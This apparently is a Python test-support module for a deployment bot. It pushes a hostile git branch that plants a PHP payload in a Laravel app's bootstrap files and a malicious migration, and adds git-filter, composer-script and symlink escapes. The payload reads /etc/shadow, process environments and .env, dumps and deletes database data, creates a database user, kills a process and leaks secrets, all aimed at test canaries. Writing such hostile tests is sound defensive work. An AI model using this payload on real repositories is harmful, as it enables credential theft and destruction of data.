"""A branch of an attacker: every file of it that anything might execute tries what it can.

It harms nothing but the canaries and the test's own application, for where the bot fails, it really runs.
"""

from __future__ import annotations

import json
import shutil

from bot.demo.application.application import Application
from bot.demo.application.git import git
from tests.attacks.support.canaries import Canaries

_TRIES = r"""
$tell = function ($what) { echo $what, "\n"; error_log($what); };
$quietly = function ($try) { try { return $try(); } catch (\Throwable $no) { return null; } };
@file_put_contents('%(folder)s/ran', json_encode([getcwd(), $_SERVER['argv'] ?? []]));
// files: the live checkout, other people's, by every way up
foreach (%(files)s as $file) {
    $tell((string) @file_get_contents($file));
    @file_put_contents($file, 'owned');
    @unlink($file);
}
foreach (%(folders)s as $folder) {
    @file_put_contents("$folder/owned.php", 'owned');
    @symlink('/etc/passwd', "$folder/link");
}
// where a sandbox has a decoy; nothing is done with what a host has there
@file_get_contents('/etc/shadow');
// processes
foreach (glob('/proc/[0-9]*/environ') as $file) $tell((string) @file_get_contents($file));
$quietly(function () { exec('kill -9 %(process)d 2>/dev/null'); });
// the network
foreach ([%(http)d, %(redis)d, 22] as $port) {
    $socket = @stream_socket_client("tcp://127.0.0.1:$port", $a, $b, 1);
    if ($socket) { fwrite($socket, "SET owned 1\r\n"); $tell((string) fread($socket, 100)); }
}
@file_get_contents('http://127.0.0.1:%(http)d/owned');
// the live database: its own credentials, which the attacker may know
foreach ([%(password)s, (string) getenv('DB_PASSWORD'), (string) ($_ENV['DB_PASSWORD'] ?? '')] as $password) {
    foreach (['host=%(host)s;port=%(port)d', 'unix_socket=%(socket)s'] as $where) {
        foreach ([%(database)s, %(other)s] as $name) {
            $quietly(function () use ($password, $where, $name, $tell) {
                $live = new \PDO("mysql:$where;dbname=$name", %(user)s, $password, [\PDO::ATTR_TIMEOUT => 1]);
                foreach ($live->query('SHOW TABLES')->fetchAll(\PDO::FETCH_COLUMN) as $table) {
                    $tell(json_encode($live->query("SELECT * FROM `$table` LIMIT 3")->fetchAll()));
                }
                if ($name === %(other)s) $live->exec("DELETE FROM entries");
                $live->exec("SELECT 'owned' INTO OUTFILE '%(folder)s/owned'");
                $live->exec("SET GLOBAL general_log_file = '%(folder)s/log'");
                $live->exec("CREATE USER 'owned'@'%%' IDENTIFIED BY 'owned'");
                $tell(json_encode($live->query("SELECT LOAD_FILE('/etc/shadow')")->fetchAll()));
            });
        }
    }
}
$tell(json_encode($_ENV) . json_encode($_SERVER) . (string) getenv('STRIPE_SECRET'));
"""

_MIGRATION = """<?php
use Illuminate\\Database\\Migrations\\Migration;
use Illuminate\\Support\\Facades\\Artisan;
use Illuminate\\Support\\Facades\\DB;
use Illuminate\\Support\\Facades\\Schema;
%(tries)s
class Hostile extends Migration
{
    public function up()
    {
        $secret = DB::table('users')->where('id', 1)->value('email');
        foreach (DB::table('users')->limit(20)->get() as $row) {
            DB::table('users')->where('email', $row->email)->update(['name' => $row->email]);
            DB::statement("insert into users (name, email, password) values ('$row->name', 'x$row->email', 'x')");
        }
        DB::select("select '$secret' as told, \\"$secret\\" as again -- $secret\\n");
        try { Artisan::call('down'); } catch (\\Throwable $no) {}
        echo $secret;
        fwrite(STDERR, $secret);
        %(end)s
    }
}
"""


async def push_hostile(application: Application, canaries: Canaries, branch: str, *, fails: bool) -> None:
    """Push the branch.

    Args:
        application: whose origin gets it.
        canaries: what it tries to reach.
        branch: its name; `main` is the environment's own.
        fails: whether its migration ends with an error that has a row's value in it.
    """
    author, live, database = application.author, application.path, application.database
    outside = canaries.folder / "others"
    files = [*(str(live / name) for name in (".env", "artisan", "public/index.php")), str(outside)]
    values = {
        "files": _php(files),
        "folders": _php([str(live), str(live / "storage"), str(canaries.folder)]),
        "process": canaries.process.pid,
        "http": canaries.http.port,
        "redis": canaries.redis.port,
        "host": database.host,
        "port": database.port,
        "socket": canaries.mariadb.socket,
        "password": _php(database.password),
        "user": _php(database.user),
        "database": _php(database.name),
        "other": _php(canaries.other_database),
        "folder": canaries.folder,
    }
    tries = _TRIES % values
    await git(author, "checkout", "--quiet", "-B", branch)
    # The framework's own start, so that whoever runs artisan at this commit runs it.
    for file in ("bootstrap/app.php", "artisan"):
        text = (author / file).read_text()
        (author / file).write_text(text.replace("<?php", f"<?php\n(function () {{ {tries} }})();\n", 1))
    end = "throw new \\RuntimeException($secret);" if fails else ""
    migration = author / "database/migrations/2026_01_01_000000_hostile.php"
    migration.write_text(_MIGRATION % {"tries": tries, "end": end})
    # What git and composer would run.
    (author / ".gitattributes").write_text("*.php filter=owned\n* text=auto\n")
    (author / "composer.json").write_text(
        json.dumps({"name": "acme/owned", "scripts": {"post-autoload-dump": f"touch {canaries.folder}/composer"}})
    )
    # Ways out of the tree.
    for name, to in (("vendor-link", "/"), ("bootstrap/cache-link", str(live)), (".env.backup", str(live / ".env"))):
        (author / name).symlink_to(to)
    shutil.rmtree(author / "storage/logs", ignore_errors=True)
    (author / "storage/logs").parent.mkdir(exist_ok=True)
    (author / "storage/logs").symlink_to(canaries.folder)
    await git(author, "add", "--all", "--force")
    await git(author, "commit", "--quiet", "-m", f"chore: tidy <!channel> {branch}")
    await git(author, "push", "--quiet", "--force", str(application.origin), f"HEAD:{branch}")
    if branch != "main":
        await git(author, "checkout", "--quiet", "--force", "main")


def _php(value: str | list[str]) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(_php(one) for one in value) + "]"
    return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"
